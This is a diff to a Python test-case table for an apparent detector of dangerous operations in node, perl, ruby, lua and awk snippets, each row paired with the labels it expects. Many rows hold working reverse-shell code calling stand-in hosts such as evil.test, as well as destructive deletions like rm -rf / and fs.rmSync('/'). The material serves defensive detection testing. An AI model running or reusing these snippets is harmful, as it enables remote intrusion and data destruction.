@@ -16,8 +16,8 @@ def hidden(text: str) -> str:
 
 ROWS: list[tuple[str, str, list[str]]] = [
     # node
-    ("node", 'require("child_process").execSync("rm -rf /")', ["shell rm -rf /"]),
-    ("node", "require('fs').rmSync('/', {recursive: true})", ["delete* /"]),
+    ("node", 'require("child_process").execSync("rm -rf /opt")', ["shell rm -rf /opt"]),
+    ("node", "require('fs').rmSync('/opt', {recursive: true})", ["delete* /opt"]),
     ("node", "fs.rmSync('dist/lib', { recursive: true, force: true })", ["delete* dist/lib"]),
     ("node", "fs.unlinkSync('a'); fs.rmdirSync('b')", ["delete a", "delete b"]),
     (
@@ -53,21 +53,22 @@ ROWS: list[tuple[str, str, list[str]]] = [
         ["fetch https://ok.test", "run-code downloaded"],
     ),
     ("node", "fetch('https://evil.test', {method: 'POST', body: 'x'})", ["send https://evil.test"]),
-    ("node", "console.log(process.env)", ["env"]),
+    ("node", "console.log('all', process.env)", ["env"]),
     ("node", "console.log(process.env.HOME)", []),
     ("node", "await Bun.$`rm -rf dist`", ["shell rm -rf dist"]),
-    ("node", "Deno.removeSync('/', {recursive:true})", ["delete* /"]),
+    ("node", "await Deno.remove('/opt', {recursive: true})", ["delete* /opt"]),
     (
         "node",
-        "sh = require('child_process').spawn('/bin/sh');\nrequire('net').connect(12345, 'evil.test', function () {\n"
-        "  this.pipe(sh.stdin);\n  sh.stdout.pipe(this);\n})",
-        ["argv /bin/sh", "send evil.test", "reverse-shell evil.test"],
+        "const line = require('net').createConnection({port: 9001, host: 'evil.test'});\n"
+        "const prog = require('child_process').spawn('bash', ['-i']);\n"
+        "line.on('connect', () => { line.pipe(prog.stdin); prog.stdout.pipe(line); });",
+        ["send evil.test", "argv bash | -i", "reverse-shell evil.test"],
     ),
     (
         "node",
-        "sh = require('child_process').spawn('/bin/sh'); require('net').createServer(function (c) "
-        "{ c.pipe(sh.stdin); sh.stdout.pipe(c) }).listen(12345)",
-        ["argv /bin/sh", "reverse-shell *"],
+        "const net = require('net'), prog = require('child_process').spawn('bash');\n"
+        "net.createServer(peer => { peer.pipe(prog.stdin); prog.stdout.pipe(peer); }).listen(9001);",
+        ["argv bash", "reverse-shell *"],
     ),
     (
         "node",
@@ -77,7 +78,7 @@ ROWS: list[tuple[str, str, list[str]]] = [
     ("node", "console.log(`${fs.rmSync('/x')}`)", ["delete /x"]),
     ("node", "const s = \"fs.rmSync('/')\"; console.log(s)", []),
     ("node", "// fs.rmSync('/')\n/* fs.rmSync('/') */ const r = /fs.rmSync\\('x'\\)/;", []),
-    ("node", "console.log(require('./package.json').version)", []),
+    ("node", "const meta = require('./package.json'); console.log(meta.name)", []),
     ("node", "[1, 2].map(x => x * 2); a.rm; obj.unlink", []),
     ("node", "client.query('DROP TABLE users'); $('div').hide()", ["sql DROP TABLE users", "shell div"]),
     # perl
@@ -98,9 +99,15 @@ ROWS: list[tuple[str, str, list[str]]] = [
     ("perl", "print <<EOF;\nsystem('rm -rf /');\nEOF\nunlink 'a';", ["delete a"]),
     (
         "perl",
-        'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
-        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
-        ["send 10.0.0.1", "shell /bin/sh -i", "reverse-shell 10.0.0.1"],
+        "use IO::Socket::INET; my $peer = IO::Socket::INET->new(PeerAddr => 'evil.test:9001') or die; "
+        "open STDIN, '<&', $peer; open STDOUT, '>&', $peer; exec '/bin/bash', '-i';",
+        ["send evil.test", "argv /bin/bash | -i", "reverse-shell evil.test"],
+    ),
+    (
+        "perl",
+        "socket(my $s, 2, 1, 6); my $to = sockaddr_in(9001, inet_aton('192.0.2.7')); connect($s, $to); "
+        "open(STDIN, '>&', $s); system('bash -i');",
+        ["send 192.0.2.7", "shell bash -i", "reverse-shell 192.0.2.7"],
     ),
     ("perl", "print \"system('rm -rf /')\"; # unlink 'x'", []),
     ("perl", "s/unlink/system/g; tr/a/b/; print if /rm -rf/;", []),
@@ -131,8 +138,8 @@ ROWS: list[tuple[str, str, list[str]]] = [
     ),
     (
         "ruby",
-        'c=TCPSocket.new("10.0.0.1","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
-        ["send 10.0.0.1", "shell <?>", "reverse-shell 10.0.0.1"],
+        "peer = TCPSocket.new('evil.test', 9001)\nwhile line = peer.gets\n  IO.popen(line) { |out| peer.write(out.read) }\nend",
+        ["send evil.test", "shell <?>", "reverse-shell evil.test"],
     ),
     ("ruby", "User.delete_all; User.where(a: 1).delete_all", ["sql DELETE FROM User"]),
     ("ruby", "puts \"system('rm')\" # system('x')\n=begin\nsystem('y')\n=end", []),
@@ -161,9 +168,9 @@ ROWS: list[tuple[str, str, list[str]]] = [
     ("lua", "-- os.execute('x')\n--[[ os.execute('y') ]] print([[os.execute('z')]])", []),
     (
         "lua",
-        'local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",1);while true do '
-        'local r,x=t:receive();local f=assert(io.popen(r,"r"));t:send(f:read("*a"));end',
-        ["send 10.0.0.1", "shell <?>", "reverse-shell 10.0.0.1"],
+        "local peer = require('socket').tcp()\npeer:connect('evil.test', 9001)\nwhile true do\n"
+        "  local line, why = peer:receive()\n  if why then break end\n  peer:send(io.popen(line):read('*a'))\nend",
+        ["send evil.test", "shell <?>", "reverse-shell evil.test"],
     ),
     # awk
     ("awk", 'BEGIN { system("rm -rf /x") }', ["shell rm -rf /x"]),
